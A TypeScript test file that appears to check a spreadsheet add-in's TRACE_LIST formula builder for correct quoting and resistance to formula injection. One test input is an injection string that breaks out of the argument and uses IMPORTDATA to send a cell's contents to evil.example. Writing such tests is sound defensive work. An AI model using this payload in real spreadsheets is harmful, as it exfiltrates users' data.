import { readFormulaCall } from '../../../../shared/cells/formula-call';
import { FORMULA_PAYLOADS, HIDDEN_PAYLOADS } from '../../../fakes/formula-payloads';
import { toListFormula } from '../../../../shared/panel/lists/list-formula';

test.each([
  ['lst_1', { tier: null, search: '' }, 25, '=TRACE_LIST("lst_1")'],
  ['lst_1', { tier: 'high' as const, search: '' }, 50, '=TRACE_LIST("lst_1","","top=50; tier=high")'],
  ['a"b', { tier: null, search: 'x;y' }, 25, '=TRACE_LIST("a""b","","search=\'x;y\'")'],
  ['lst_1', { tier: null, search: "O'Brien, Sons" }, 25, `=TRACE_LIST("lst_1","","search='O''Brien, Sons'")`],
])('the formula for %s with %o and %i rows', (listId, filter, rows, formula) => {
  expect(toListFormula(listId, filter, rows)).toBe(formula);
});

it.each([...FORMULA_PAYLOADS, ...HIDDEN_PAYLOADS, 'a"),IMPORTDATA("https://evil.example/?"&A1)&("'])(
  '%j stays one argument of one call, wherever it stands',
  (payload) => {
    const call = readFormulaCall(toListFormula(payload, { tier: null, search: payload }, 25));
    expect({ id: call?.id, kinds: call?.args.map(({ is }) => is), first: call?.args[0] }).toEqual({
      id: 'TRACE_LIST',
      kinds: ['value', 'value', 'value'],
      first: { is: 'value', value: payload },
    });
  },
);
